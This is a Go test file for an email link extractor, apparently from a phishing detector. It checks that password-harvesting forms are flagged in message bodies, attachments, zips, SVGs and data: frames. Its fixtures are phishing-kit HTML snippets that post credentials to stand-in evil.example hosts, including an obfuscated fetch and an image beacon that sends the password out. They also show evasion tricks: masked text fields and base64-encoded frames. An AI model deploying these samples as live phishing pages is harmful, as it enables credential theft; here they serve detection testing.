package links

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/firstsight/firstsight/internal/lineartest"
)

// pwMail is a message whose only HTML is doc: the body itself (header ""),
// or an attachment with the given part header under a short text part.
func pwMail(header, doc string) []byte {
	if header == "" {
		return []byte("Content-Type: text/html; charset=utf-8\r\n\r\n" + doc + "\r\n")
	}
	return []byte("Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nPlease review the attached remittance.\r\n" +
		"--b\r\n" + header + "\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString([]byte(doc)) + "\r\n--b--\r\n")
}

// TestPasswordForms: the targets of a form that holds a password field
// carry FlagPassword, wherever the form is (the body, an attached page, a
// zipped page, HTML drawn in an SVG), however the type is written; a
// password field whose form sends it nowhere read marks the message
// (PasswordField) when its document runs script, which posts it; other
// forms and fields mark nothing.
func TestPasswordForms(t *testing.T) {
	const (
		page   = "Content-Type: text/html\r\nContent-Disposition: attachment; filename=\"Remittance.html\""
		octet  = "Content-Type: application/octet-stream; name=\"scan.htm\""
		svg    = "Content-Type: image/svg+xml; name=\"Statement.svg\""
		zipped = "zip"
		form   = `<form action="https://collect.evil.example/p" method="post"><input name="u"><input type="password" name="p"><button>Sign in</button></form>`
	)
	for _, tc := range []struct {
		name, header, doc string
		marked            []string // hosts of the links with FlagPassword, in order
		field             bool     // Extracted.PasswordField
	}{
		{"a password form in the body", "", `<p>Sign in to view</p>` + form, []string{"collect.evil.example"}, false},
		{"in an attached page", page, `<html><body>` + form + `</body></html>`, []string{"collect.evil.example"}, false},
		{"in a page sent as octet-stream", octet, form, []string{"collect.evil.example"}, false},
		{"in a zipped page", zipped, form, []string{"collect.evil.example"}, false},
		{"type in capitals, unquoted", "", `<FORM ACTION=https://collect.evil.example/p><INPUT TYPE=PASSWORD NAME=p></FORM>`, []string{"collect.evil.example"}, false},
		{"type in single quotes with spaces", "", `<form action='https://collect.evil.example/p'><input type=' Password ' name='p'></form>`, []string{"collect.evil.example"}, false},
		{"type written with a character reference", "", `<form action="https://collect.evil.example/p"><input type="&#112;assword"></form>`, []string{"collect.evil.example"}, false},
		{"the field before a button's formaction", "", `<form action="https://a.evil.example/"><input type=password><button formaction="https://b.evil.example/">Go</button></form>`, []string{"a.evil.example", "b.evil.example"}, false},
		{"HTML drawn in an SVG", svg, `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="300" height="200"><form xmlns="http://www.w3.org/1999/xhtml" action="https://collect.evil.example/p"><input type="PassWord"/></form></foreignObject><a href="https://view.evil.example/"><text>Open</text></a></svg>`, []string{"collect.evil.example"}, false},
		{"an SVG drawn in the body", "", `<svg><foreignObject>` + form + `</foreignObject></svg>`, []string{"collect.evil.example"}, false},
		{"a form without action posted by script", page, `<form id="f"><input type="email"><input type="password"></form><script>fetch("https://collect.evil.example/p",{method:"POST"})</script>`, nil, true},
		{"a field outside any form sent by a handler", page, `<div><input type="password" id="p"><button onclick="send()">Next</button></div>`, nil, true},
		{"an empty action and a submit handler", page, `<form action="" onsubmit="return go(this)"><input type="password"></form>`, nil, true},
		{"a form without action in a scripted SVG", svg, `<svg><foreignObject><form><input type="password"/></form></foreignObject><script>fetch("/x")</script></svg>`, nil, true},
		{"a zipped page posting by script", zipped, `<input type=password id=p><script src="https://cdn.evil.example/k.js"></script>`, nil, true},
		{"a field in the body beside a script", "", `<p>Confirm your password</p><input type=password><script>go()</script>`, nil, true},
		{"a field without any form or script sends nothing", page, `<div><input type="password" id="p"></div>`, nil, false},
		{"a zipped sign-in template (relative action, no script)", zipped, `<form action="/account/login" method="post"><input name="u"><input type="password" name="p"></form>`, nil, false},
		{"a form without action in an SVG without script", svg, `<svg><foreignObject><form><input type="password"/></form></foreignObject></svg>`, nil, false},
		{"a field in the body outside a form, no script", "", `<p>Confirm your password</p><input type=password>`, nil, false},
		{"a search form", "", `<form action="https://shop.example/search"><input type="search" name="q"><input type="submit"></form>`, nil, false},
		{"a newsletter sign-up", page, `<form action="https://list.example/sub"><input type="email" name="e"><input type="text" value="password"></form>`, nil, false},
		{"the word password only in text", "", `<p>Reset your password at <a href="https://id.example/reset">id.example</a></p>`, nil, false},
		{"a password field after its form closed", page, `<form action="https://a.example/s"><input name="q"></form><input type="password"><script>go()</script>`, nil, true},
		{"two forms, the second with the field", "", `<form action="https://search.example/"><input name=q></form><form action="https://collect.evil.example/p"><input type=password></form>`, []string{"collect.evil.example"}, false},
		{"a form left open to the end", page, `<form action="https://collect.evil.example/p"><input type=password>`, []string{"collect.evil.example"}, false},
		{"a field outside that names its form", page, `<form id="f" action="https://collect.evil.example/p"><input name="u"><button>Sign in</button></form><input type="password" name="p" form="f">`, []string{"collect.evil.example"}, false},
		{"a field that names its form before it", "", `<input type=password form=f><form id=f action="https://collect.evil.example/p"><input name=u></form>`, []string{"collect.evil.example"}, false},
		{"a field in one form that names another", page, `<form action="https://search.example/"><input type=password form=x></form><form id=x action="https://collect.evil.example/p"></form>`, []string{"search.example", "collect.evil.example"}, false},
		{"a field that names its form in an SVG", svg, `<svg><foreignObject><form id="f" action="https://collect.evil.example/p"/><input type="password" form="f"/></foreignObject></svg>`, []string{"collect.evil.example"}, false},
		{"a field that names a form no document holds, with script", page, `<input type=password form=nowhere><script>go()</script>`, nil, true},
		{"a hidden input named password", "", `<form action="https://a.example/"><input type="hidden" name="password"></form>`, nil, false},
		{"a text field masked by its style", "", `<form action="https://collect.evil.example/p"><input name="u"><input type="text" name="p" style="color:#222; -webkit-text-security: disc"></form>`, []string{"collect.evil.example"}, false},
		{"a field masked by a rule on its class", page, `<html><head><style>body{font:14px Arial} .field.pw , .other { -webkit-text-security:circle; }</style></head><body><form action="https://collect.evil.example/p"><input class="field PW" name="p"></form></body></html>`, []string{"collect.evil.example"}, false},
		{"a field masked by a rule on its id", "", `<style>form #pass{-webkit-text-security:square}</style><form action="https://collect.evil.example/p"><input type=tel id=pass></form>`, []string{"collect.evil.example"}, false},
		{"every input masked by a rule", page, `<style>input[type=text]{-webkit-text-security:disc}</style><form action="https://collect.evil.example/p"><input type=text name=p></form>`, []string{"collect.evil.example"}, false},
		{"a masked field posted by script", page, `<style>.k{-webkit-text-security:disc}</style><input class="k"><script>go()</script>`, nil, true},
		{"a masked field in an SVG", svg, `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="https://collect.evil.example/p"><input style="-webkit-text-security:disc"/></form></foreignObject></svg>`, []string{"collect.evil.example"}, false},
		{"a form in a base64 data: frame", page, `<html><body><iframe src="data:text/html;base64,PGZvcm0gYWN0aW9uPSJodHRwczovL2NvbGxlY3QuZXZpbC5leGFtcGxlL3AiIG1ldGhvZD0icG9zdCI+PGlucHV0IG5hbWU9InUiPjxpbnB1dCB0eXBlPSJwYXNzd29yZCIgbmFtZT0icCI+PGJ1dHRvbj5TaWduIGluPC9idXR0b24+PC9mb3JtPg==" width="400"></iframe></body></html>`, []string{"collect.evil.example"}, false},
		{"a form in a percent-encoded data: frame", "", `<iframe src="data:text/html;charset=utf-8,%3Cform%20action%3D%22https%3A%2F%2Fcollect.evil.example%2Fp%22%20method%3D%22post%22%3E%3Cinput%20name%3D%22u%22%3E%3Cinput%20type%3D%22password%22%20name%3D%22p%22%3E%3Cbutton%3ESign%20in%3C%2Fbutton%3E%3C%2Fform%3E"></iframe>`, []string{"collect.evil.example"}, false},
		{"a field in a data: frame posted by its script", page, `<iframe src="data:text/html;base64,PGlucHV0IHR5cGU9InBhc3N3b3JkIiBpZD0icCI+PHNjcmlwdD5mZXRjaCgiaHR0cHM6Ly9jb2xsZWN0LmV2aWwuZXhhbXBsZS9wIik8L3NjcmlwdD4="></iframe>`, nil, true},
		{"a form in a data: frame in a srcdoc", page, `<iframe srcdoc="&lt;iframe src=&quot;data:text/html;base64,PGZvcm0gYWN0aW9uPSJodHRwczovL2NvbGxlY3QuZXZpbC5leGFtcGxlL3AiIG1ldGhvZD0icG9zdCI+PGlucHV0IG5hbWU9InUiPjxpbnB1dCB0eXBlPSJwYXNzd29yZCIgbmFtZT0icCI+PGJ1dHRvbj5TaWduIGluPC9idXR0b24+PC9mb3JtPg==&quot;&gt;&lt;/iframe&gt;"></iframe>`, []string{"collect.evil.example"}, false},
		{"a form in a data: object", page, `<object data="data:text/html;base64,PGZvcm0gYWN0aW9uPSJodHRwczovL2NvbGxlY3QuZXZpbC5leGFtcGxlL3AiIG1ldGhvZD0icG9zdCI+PGlucHV0IG5hbWU9InUiPjxpbnB1dCB0eXBlPSJwYXNzd29yZCIgbmFtZT0icCI+PGJ1dHRvbj5TaWduIGluPC9idXR0b24+PC9mb3JtPg=="></object>`, []string{"collect.evil.example"}, false},
		{"XHTML-prefixed form and field in an SVG", svg, `<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml"><foreignObject width="300" height="200"><h:form action="https://collect.evil.example/p"><h:input type="text" name="u"/><h:input type="password" name="p"/></h:form></foreignObject></svg>`, []string{"collect.evil.example"}, false},
		{"XHTML prefix declared on the form itself", svg, `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><x:form xmlns:x='http://www.w3.org/1999/xhtml' action="https://collect.evil.example/p"><x:input type="password"/></x:form></foreignObject></svg>`, []string{"collect.evil.example"}, false},
		{"a whole XHTML document in foreignObject", svg, `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><html xmlns="http://www.w3.org/1999/xhtml"><body><div><form action="https://collect.evil.example/p"><input type="password"/></form></div></body></html></foreignObject></svg>`, []string{"collect.evil.example"}, false},
		{"a prefixed field with script and no form in an SVG", svg, `<svg xmlns:h="http://www.w3.org/1999/xhtml"><foreignObject><h:input type="password"/></foreignObject><script>fetch("/x")</script></svg>`, nil, true},
		{"a search form with other CSS", "", `<form action="https://shop.example/search"><input type="search" name="q" style="color:#333;-webkit-appearance:none;border:0"><input type="submit"></form>`, nil, false},
		{"a newsletter's subscribe form with a style sheet", page, `<style>.email{border:1px solid #ccc;padding:4px} #sub{color:red}</style><form action="https://list.example/sub"><input class="email" id="sub" type="email" name="e"><button>Subscribe</button></form>`, nil, false},
		{"text-security none", "", `<form action="https://shop.example/s"><input type="text" style="-webkit-text-security:none"></form>`, nil, false},
		{"a masking rule on a class no field has", "", `<style>.pin{-webkit-text-security:disc}</style><form action="https://shop.example/s"><input class="q" name="q"></form>`, nil, false},
		{"a checkbox with the masked class", "", `<style>.pw{-webkit-text-security:disc}</style><form action="https://shop.example/s"><input type="checkbox" class="pw"></form>`, nil, false},
		{"the rule quoted in the text", "", `<p>Use -webkit-text-security: disc in CSS.</p><form action="https://shop.example/s"><input name="q"></form>`, nil, false},
		{"a newsletter form in a data: frame", page, `<iframe src="data:text/html;base64,PGZvcm0gYWN0aW9uPSJodHRwczovL2xpc3QuZXhhbXBsZS9zdWIiPjxpbnB1dCB0eXBlPSJlbWFpbCIgbmFtZT0iZSI+PGJ1dHRvbj5TdWJzY3JpYmU8L2J1dHRvbj48L2Zvcm0+"></iframe>`, nil, false},
		{"a data: frame of plain text", page, `<iframe src="data:text/plain;base64,PGZvcm0gYWN0aW9uPSJodHRwczovL2NvbGxlY3QuZXZpbC5leGFtcGxlL3AiIG1ldGhvZD0icG9zdCI+PGlucHV0IG5hbWU9InUiPjxpbnB1dCB0eXBlPSJwYXNzd29yZCIgbmFtZT0icCI+PGJ1dHRvbj5TaWduIGluPC9idXR0b24+PC9mb3JtPg=="></iframe>`, nil, false},
		{"a saved page's rule for its password fields beside a search form", page, `<style>input[type="password"]{font-family:Verdana;-webkit-text-security:disc}</style><form action="https://shop.example/search"><input type="search" name="q"><input type=text name=zip></form>`, nil, false},
		{"a rule on password fields by class", "", `<style>input.pw[type=password], .x{-webkit-text-security:disc}</style><form action="https://shop.example/s"><input class="pw" name="q"></form>`, nil, false},
		{"a rule on text fields by type", "", `<style>form input[ type = 'text' ]{-webkit-text-security:disc}</style><form action="https://collect.evil.example/p"><input name="p"></form>`, []string{"collect.evil.example"}, false},
		{"a rule on text fields by type, case-insensitive flag", "", `<style>input[type="TEXT" i]{-webkit-text-security:disc}</style><form action="https://collect.evil.example/p"><input type=text name="p"></form>`, []string{"collect.evil.example"}, false},
		{"a srcdoc frame's field posted by its script", page, `<iframe srcdoc="<div><input type=password id=p><button onclick=&quot;go()&quot;>Next</button></div><script>fetch('https://collect.evil.example/p')</script>"></iframe>`, nil, true},
		{"a srcdoc frame's field posted by the page's script", page, `<iframe srcdoc="<input type=password id=p>"></iframe><script>go()</script>`, nil, true},
		{"a srcdoc frame's field without script", page, `<iframe srcdoc="<p>Sign in</p><input type=password id=p>"></iframe>`, nil, false},
		{"every input masked on focus only", page, `<style>input:focus{-webkit-text-security:disc}</style><input type=text name=q><script>go()</script>`, nil, false},
		{"a class masked on focus", page, `<style>.pw:focus{-webkit-text-security:disc}</style><input type=text class=pw name=p><script>go()</script>`, nil, true},
		{"an id masked by a rule with a pseudo-class", page, `<style>input#pass:not(:placeholder-shown){-webkit-text-security:disc}</style><input type=text id=pass><script>go()</script>`, nil, true},
		{"a PDF.js viewer's password dialog", page, `<html><head><script src="pdf.mjs" type="module"></script><script src="viewer.mjs" type="module"></script></head><body><div id="viewerContainer"></div><dialog id="passwordDialog"><label for="password">Enter the password to open this PDF file.</label><input type="password" id="password" class="toolbarField"><button id="passwordSubmit">OK</button></dialog></body></html>`, nil, false},
		{"an old PDF.js viewer's password overlay", page, `<script src="../build/pdf.js"></script><div id="passwordOverlay" class="container hidden"><input type="password" id="password" class="toolbarField"></div><script>pdfjsLib.GlobalWorkerOptions.workerSrc='pdf.worker.js'</script>`, nil, false},
		{"a kit borrowing PDF.js's names that posts", page, `<script src="pdf.js"></script><div id="passwordOverlay"><input type="password" id="password"></div><script>fetch('https://collect.evil.example/p',{method:'POST'})</script>`, nil, true},
		{"a kit with PDF.js's names in a comment, its script from elsewhere", page, `<!-- pdf.js viewer --><div id="passwordOverlay"><p>Enter your email password to view this PDF.</p><input type="password" id="password"></div><script src="https://cdn.evil.example/app.js"></script>`, nil, true},
		{"a kit with PDF.js's names posting through an image", page, `<script src="pdf.js"></script><div id="passwordOverlay"><p>Enter your email password to view this PDF.</p><input type="password" id="password"></div><script>passwordSubmit.onclick=function(){new Image().src='https://c.evil.example/p?'+password.value}</script>`, nil, true},
		{"a kit with PDF.js's names calling fetch in pieces", page, `<script src="pdf.js"></script><div id="passwordOverlay"><p>Enter your email password to view this PDF.</p><input type="password" id="password"></div><script>function go(){window['fet'+'ch']('https://c.evil.example/p',{method:'POST',body:password.value})}</script>`, nil, true},
		{"a kit with PDF.js's names and a handler", page, `<script src="pdf.js"></script><div id="passwordOverlay"><p>Enter your email password to view this PDF.</p><input type="password" id="password"></div><button onclick="go()">Open</button>`, nil, true},
		{"a kit with PDF.js's names loading relative script from its base", page, `<base href="https://cdn.evil.example/"><script src="pdf.js"></script><div id="passwordOverlay"><p>Enter your email password to view this PDF.</p><input type="password" id="password"></div><script src="app.js"></script>`, nil, true},
		{"a PDF.js viewer loaded from a CDN", page, `<script src="https://cdnjs.cloudflare.com/ajax/libs/pdf.js/3.11.174/pdf.min.js"></script><div id="passwordOverlay"><input type="password" id="password"></div><script>pdfjsLib.GlobalWorkerOptions.workerSrc = 'https://cdnjs.cloudflare.com/ajax/libs/pdf.js/3.11.174/pdf.worker.min.js';</script>`, nil, false},
		{"a PDF.js-looking page's form still marks", page, `<script src="pdf.js"></script><div id="passwordOverlay"><form action="https://collect.evil.example/p"><input type="password" id="password"></form></div>`, []string{"collect.evil.example"}, false},
		{"a prefix bound to another namespace", svg, `<svg xmlns:h="http://example.org/ns"><foreignObject><h:form action="https://collect.evil.example/p"><h:input type="password"/></h:form></foreignObject></svg>`, nil, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			msg := pwMail(tc.header, tc.doc)
			if tc.header == zipped {
				msg = zipMail("Content-Type: application/zip; name=\"Remittance.zip\"", ooxml(map[string]string{"Remittance.html": tc.doc}))
			}
			x, err := ExtractAll(msg, Options{})
			if err != nil {
				t.Fatal(err)
			}
			var marked []string
			for _, l := range x.Links {
				if l.Flags.Has(FlagPassword) {
					marked = append(marked, l.Host)
					if l.Kind != KindForm && !l.Flags.Has(FlagSubmits) {
						t.Errorf("link %s of kind %s carries FlagPassword but is no form's target", l.Host, l.Kind)
					}
				}
			}
			if !slices.Equal(marked, tc.marked) || x.PasswordField != tc.field {
				t.Errorf("ExtractAll(%s): FlagPassword on %q, PasswordField %v; want %q, %v", tc.name, marked, x.PasswordField, tc.marked, tc.field)
			}
		})
	}
}

// FuzzPasswordForms: the HTML and SVG readers mark only a form's targets,
// and nothing at all in a document that cannot spell "password" (in any
// case, or by a character reference), mask a field (text-security) or
// hold a frame's document (data:).
func FuzzPasswordForms(f *testing.F) {
	f.Add([]byte(`<form action="https://a.example/"><input type=password></form>`))
	f.Add([]byte(`<svg><foreignObject><form action="//b.example"><input type="PASSWORD"/><button formaction="https://c.example/">x</button></form></foreignObject></svg>`))
	f.Add([]byte(`<form><form action="https://d.example/"><input type='&#112;assword'></form></form><input type=password>`))
	f.Add([]byte(`<input type=password form=f><form id=f action="https://e.example/"></form><svg><input type="password" form="g"/></svg>`))
	f.Add([]byte(`<style>.p,#q{-webkit-text-security:disc}input{-webkit-text-security:circle}</style><form action="https://f.example/"><input class=p><input id=q style="-webkit-text-security:square"></form>`))
	f.Add([]byte(`<iframe src="data:text/html;base64,PGZvcm0gYWN0aW9uPSJodHRwczovL2cuZXhhbXBsZS8iPjxpbnB1dCB0eXBlPXBhc3N3b3JkPjwvZm9ybT4="></iframe><object data="data:text/html,%3Cform%3E">`))
	f.Add([]byte(`<svg xmlns:h="http://www.w3.org/1999/xhtml"><h:form action="https://h.example/"><h:input type="password"/></h:form></svg>`))
	f.Fuzz(func(t *testing.T, doc []byte) {
		low := bytes.ToLower(doc)
		possible := bytes.Contains(low, []byte("password")) || bytes.IndexByte(doc, '&') >= 0 ||
			bytes.Contains(low, []byte("text-security")) || bytes.Contains(low, []byte("data:"))
		c := &collector{max: 20, hosts: hostCache{}}
		scanHTML(doc, c, -1)
		s := svgScanner{c: &collector{max: 20, hosts: hostCache{}}, doc: doc}
		s.run()
		for _, r := range []struct {
			c      *collector
			target func(*Link) bool
		}{{c, htmlFormTarget}, {s.c, svgFormTarget}} {
			for _, l := range r.c.links {
				if l.Flags.Has(FlagPassword) && (!possible || !r.target(&l)) {
					t.Fatalf("link %q of kind %s (flags %v) carries FlagPassword in %q", l.Raw, l.Kind, l.Flags, doc)
				}
			}
			if r.c.password && !possible {
				t.Fatalf("a password field without the word in %q", doc)
			}
		}
	})
}

// TestPasswordFormsLinear: masking rules, data: frames and XHTML
// prefixes, many of each, cost in proportion to the document.
func TestPasswordFormsLinear(t *testing.T) {
	for _, unit := range []string{
		`<style>.a{-webkit-text-security:disc}</style><input class=a><input style="-webkit-text-security:disc">`,
		strings.Repeat("x", 600) + `{-webkit-text-security:disc}`,
		`<iframe src="data:text/html,%3Ciframe%20src=%22data:text/html,%253Cinput%253E%22%3E"></iframe>`,
		`<h:input xmlns:h="http://www.w3.org/1999/xhtml" type=password>`,
		`<script src="pdf.js"></script><div id=passwordOverlay><input type=password></div><script>pdfjsLib.a='b';pdfjsLib.c='d'</script>`,
	} {
		small := pwMail("", strings.Repeat(unit, 500))
		big := pwMail("", strings.Repeat(unit, 2000))
		svgSmall, svgBig := []byte("<svg>"+strings.Repeat(unit, 500)), []byte("<svg>"+strings.Repeat(unit, 2000))
		lineartest.Check(t, fmt.Sprintf("Extract(%.20q x n)", unit), func() { Extract(small, Options{}) }, func() { Extract(big, Options{}) })
		lineartest.Check(t, fmt.Sprintf("svgScanner(%.20q x n)", unit),
			func() { (&svgScanner{c: &collector{max: 20, hosts: hostCache{}}, doc: svgSmall}).run() },
			func() { (&svgScanner{c: &collector{max: 20, hosts: hostCache{}}, doc: svgBig}).run() })
	}
}

// TestDataHTMLScheme: a data: frame's URL is read as browsers read it:
// tabs and line breaks inside dropped, another control inside no scheme.
func TestDataHTMLScheme(t *testing.T) {
	for _, tc := range []struct {
		v    string
		want string
	}{
		{"data:text/html,%3Cp%3E", "<p>"},
		{" \x01da\nta:text/h\ttml,%3Cp%3E\x00", "<p>"},
		{"dat\x1ca:text/html,%3Cp%3E", ""},
		{"data:text/html,<p>\x7f</p>", ""},
	} {
		if got := string(dataHTML(tc.v)); got != tc.want {
			t.Errorf("dataHTML(%q) = %q, want %q", tc.v, got, tc.want)
		}
	}
}
